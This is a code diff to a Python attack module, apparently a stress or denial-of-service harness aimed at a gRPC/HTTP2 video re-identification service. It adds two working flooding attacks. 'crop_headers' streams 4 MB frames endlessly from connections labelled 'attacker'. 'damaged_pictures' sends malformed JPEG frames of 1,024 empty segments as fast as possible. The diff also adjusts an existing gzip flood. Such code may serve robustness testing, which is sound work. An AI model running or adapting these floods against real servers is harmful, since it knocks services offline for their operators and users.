@@ -7,7 +7,7 @@ import os
 from reidstream_proto.v1 import service_pb2, session_pb2
 
 from .http2 import Http2, prefix
-from .messages import crops_of_segments, empty_boxes, gzipped, numbered, opening
+from .messages import crops_of_segments, empty_boxes, gzipped, numbered, opening, picture_frame
 from .target import EMBED_STREAM, Target, again, answer_of, channel_to, stream_on, together
 
 _GZIP = {"grpc-encoding": "gzip"}
@@ -50,6 +50,47 @@ async def gzipped_headers(target: Target, *, crops: int = 1000, segments: int = 
     await _gzipped(target, crops_of_segments(crops, segments))
 
 
+async def crop_headers(target: Target, *, crops: int = 1000, segments: int = 1024) -> None:
+    """The same frames as they are, 4 MB each: a server that takes nothing compressed still has to read them.
+
+    Aims at: the time that it takes to read the headers of many ready crops, all of which are then refused.
+    """
+    body = crops_of_segments(crops, segments)
+
+    async def stream(camera: int) -> None:
+        async with Http2(target.host, target.port) as connection:
+            first = opening(f"attacker-{camera}")
+            call = await connection.call(EMBED_STREAM, target.headers)
+            await connection.data(call, prefix(len(first)) + first)
+            for number in range(1, 2**31):
+                head = numbered(body, number)
+                await connection.data(call, prefix(len(head) + len(body)) + head)
+                await connection.data(call, body)
+                target.became["frames sent"] += 1
+
+    await together(2, lambda camera: again(target, lambda: stream(camera)))
+
+
+async def damaged_pictures(target: Target, *, segments: int = 1024) -> None:
+    """Small frames whose picture is a JPEG header of 1,024 empty segments, without a picture, as fast as they go.
+
+    Aims at: frames that are refused, and so take no window and no place in the queue: nothing slows their sender down.
+    """
+    file = b"\xff\xd8" + b"\xff\xe0\x00\x02" * segments + b"\xff\xd9"
+
+    async def stream(camera: int) -> None:
+        async with Http2(target.host, target.port) as connection:
+            first = opening(f"attacker-{camera}")
+            call = await connection.call(EMBED_STREAM, target.headers)
+            await connection.data(call, prefix(len(first)) + first)
+            for number in range(1, 2**31):
+                message = picture_frame(number, file)
+                await connection.data(call, prefix(len(message)) + message)
+                target.became["frames sent"] += 1
+
+    await together(2, lambda camera: again(target, lambda: stream(camera)))
+
+
 async def _gzipped(target: Target, body: bytes) -> None:
     message = gzipped(numbered(body, 1) + body)
     del body
@@ -57,7 +98,7 @@ async def _gzipped(target: Target, body: bytes) -> None:
     async def stream(number: int) -> None:
         async with Http2(target.host, target.port) as connection:
             first = gzipped(opening(f"attacker-{number}"))
-            call = await connection.call(EMBED_STREAM, _GZIP)
+            call = await connection.call(EMBED_STREAM, {**_GZIP, **target.headers})
             await connection.data(call, prefix(len(first), compressed=True) + first)
             while True:  # the second has an old frame id, which is found out only when all is read
                 await connection.data(call, prefix(len(message), compressed=True) + message)
